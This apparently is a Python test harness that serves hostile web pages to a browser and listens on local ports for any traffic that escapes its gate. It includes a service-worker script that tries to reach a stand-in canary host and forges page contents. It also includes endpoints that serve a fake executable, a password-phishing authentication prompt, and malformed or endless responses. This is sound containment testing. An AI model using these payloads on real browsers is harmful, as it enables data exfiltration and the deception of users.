"""A site that attacks whoever looks at it, and ears that hear whatever leaves the browser around its gate."""

from __future__ import annotations

import re
import select
import socket
import threading
import time
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

FOLDER = Path(__file__).with_name("hostile")
HARMLESS = """<title>Harmless</title><h1>Nothing happens here</h1><button>Rest</button><p id=kept></p><script>
(async () => {
  const databases = (await indexedDB.databases()).map((one) => one.name).join();
  const caches = window.caches ? (await window.caches.keys()).join() : "";
  const workers = navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0;
  kept.textContent = `Kept: cookie '${document.cookie}' local '${Object.keys(localStorage)}' session ` +
    `'${Object.keys(sessionStorage)}' databases '${databases}' caches '${caches}' workers ${workers} ` +
    `name '${window.name}' opener ${window.opener} history ${history.length} hash '${location.hash}'`;
})();
</script>"""


@dataclass(frozen=True)
class Attack:
    """A hostile page: one file, which opens with a comment that says what it does and what is to come of it."""

    name: str
    words: str
    refused: tuple[str, ...]
    """Hosts that it asks for by HTTP, so that the gate has to name them."""
    host: str
    """``evil.test``, or ``evil.localhost`` where the attack wants what browsers call a secure context."""
    hangs: bool
    """It never gives the page back: the episode ends, after the seconds that a page may take to answer."""


def attacks() -> list[Attack]:
    """All of them, read from the folder."""
    found = []
    for path in sorted(FOLDER.glob("*.html")):
        said = re.match(r"<!-- (.*?) -->", path.read_text(encoding="utf-8"), re.DOTALL)
        assert said, f"{path.name} does not open with a comment that says what it does"
        words, *marks = [part.strip() for part in said[1].split("|")]
        named = dict(mark.partition(":")[::2] for mark in marks)
        hosts = tuple(host.strip() for host in named.get("refused", "").split(",") if host.strip())
        found.append(Attack(path.stem, words, hosts, named.get("host", "evil.test").strip(), "hangs" in named))
    return found


class Ears:
    """TCP on both loopback addresses and UDP, on ports of this machine that no page may reach."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp = self._tcp.getsockname()[1]
        self._sockets = [self._tcp]
        if socket.has_dualstack_ipv6():
            self._sockets.append(socket.create_server(("::1", self.tcp), family=socket.AF_INET6))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("0.0.0.0", 0))
        self.udp = self._udp.getsockname()[1]
        self._sockets.append(self._udp)
        self._open = True
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while self._open:
            for one in select.select(self._sockets, [], [], 0.1)[0]:
                if one is self._udp:
                    data, sender = one.recvfrom(2000)
                    self.heard.append(f"UDP from {sender}: {data[:60]!r}")
                else:
                    link, sender = one.accept()
                    with link:
                        link.settimeout(1)
                        try:
                            data = link.recv(2000)
                        except OSError as error:
                            data = str(error).encode()
                        self.heard.append(f"TCP from {sender}: {data[:200]!r}")

    def close(self) -> None:
        """Hear no more."""
        self._open = False
        self._thread.join()
        for one in self._sockets:
            one.close()


class HostileSite:
    """Serves the attack that is ``now`` at ``/``, harmless things elsewhere, and broken answers under ``/odd``."""

    def __init__(self, ears: Ears) -> None:
        self.now = ""
        self.asked: list[str] = []
        self.words = {"CANARY_PORT": str(ears.tcp), "UDP_PORT": str(ears.udp), "DEVTOOLS_PORT": "9"}
        handler = type("Bound", (_Handler,), {"site": self})
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self._server.daemon_threads = True
        self.address = ("127.0.0.1", int(self._server.server_address[1]))
        self.open = True
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def page(self) -> str:
        """The page at ``/`` now."""
        text = (FOLDER / f"{self.now}.html").read_text(encoding="utf-8")
        for word, value in self.words.items():
            text = text.replace(word, value)
        return text

    def close(self) -> None:
        """Stop serving."""
        self.open = False
        self._server.shutdown()
        self._server.server_close()


class _Handler(BaseHTTPRequestHandler):
    site: ClassVar[HostileSite]
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.site.asked.append(self.path)
        path = self.path.partition("?")[0]
        odd = getattr(self, "odd_" + path.removeprefix("/odd/").replace("-", "_"), None) if "/odd/" in path else None
        if odd is not None:
            odd()
        elif path.endswith(".js"):
            self.answer(self.path.partition("?")[2].encode() and self.script(), "text/javascript")
        elif path == "/start":
            self.answer(HARMLESS.encode(), "text/html; charset=utf-8")
        elif path == "/":
            self.answer(self.site.page().encode("utf-8", "surrogatepass"), "text/html; charset=utf-8")
        else:
            self.answer(b"<title>Elsewhere</title><p>Another page</p><a href='/'>Back</a>", "text/html")

    do_POST = do_PUT = do_GET

    def script(self) -> bytes:
        """A worker that tries the ways out."""
        out = f"http://canary.test:{self.site.words['CANARY_PORT']}/"
        here = f"http://127.0.0.1:{self.site.words['CANARY_PORT']}/"
        return f"""
            const out = () => {{ for (const at of ["{out}", "{here}"]) {{
              fetch(at + "worker", {{mode: "no-cors"}}).catch(() => 0);
              try {{ new WebSocket(at.replace("http", "ws")); new EventSource(at); importScripts(at); }} catch (e) {{}}
            }} }};
            addEventListener("install", () => skipWaiting());
            addEventListener("activate", (event) => event.waitUntil(clients.claim()));
            addEventListener("fetch", (event) => event.respondWith(new Response("<p>FORGED by a worker</p>",
              {{headers: {{"content-type": "text/html"}}}})));
            out(); setInterval(out, 100);""".encode()

    def answer(self, body: bytes, kind: str, status: int = 200, **headers: str) -> None:
        """An ordinary answer."""
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def odd_redirect(self) -> None:
        """To wherever the question says."""
        self.answer(b"", "text/plain", 302, Location=self.path.partition("?")[2])

    def odd_loop(self) -> None:
        self.answer(b"", "text/plain", 302, Location=f"/odd/loop?{time.monotonic_ns()}")

    def odd_nothing(self) -> None:
        self.send_response(204)
        self.end_headers()

    def odd_download(self) -> None:
        self.answer(
            b"MZ" + bytes(10_000), "application/octet-stream", Content_Disposition='attachment; filename="x.exe"'
        )

    def odd_password(self) -> None:
        self.answer(b"who are you?", "text/plain", 401, WWW_Authenticate='Basic realm="FORGED: your password please"')

    def odd_headers(self) -> None:
        self.answer(b"<p>many headers</p>", "text/html", **{f"X_{number}": "h" * 8000 for number in range(60)})

    def odd_binary(self) -> None:
        self.answer(bytes(range(256)) * 400, "text/html; charset=utf-16")

    def odd_untyped(self) -> None:
        self.answer(b"\x00\x01\x02" * 100, "application/x-unknown")

    def odd_refresh(self) -> None:
        self.answer(b"<p>soon elsewhere</p>", "text/html", Refresh=f"0; url={self.path.partition('?')[2]}")

    def odd_short(self) -> None:
        """Promises more than it sends."""
        self.send_response(200)
        self.send_header("Content-Length", "100000")
        self.end_headers()
        self.wfile.write(b"<p>and then it br")
        self.close_connection = True

    def odd_garbage(self) -> None:
        self.wfile.write(b"\xff\xfe this is no HTTP \r\n\r\n" * 40)
        self.close_connection = True

    def odd_endless(self) -> None:
        """Chunks for ever."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        self.flow(lambda: b"1e\r\n<p>There is more to come.</p>\n\r\n", 0.05)

    def odd_silent(self) -> None:
        """Takes the request and never answers."""
        self.flow(lambda: b"", 0.2)

    def flow(self, part: Any, pause: float) -> None:
        """Send until the browser has had enough."""
        while self.site.open and not select.select([self.connection], [], [], pause)[0]:
            try:
                self.wfile.write(part())
            except OSError:
                break
        self.close_connection = True

    def log_message(self, *_: Any) -> None:
        """Quiet."""
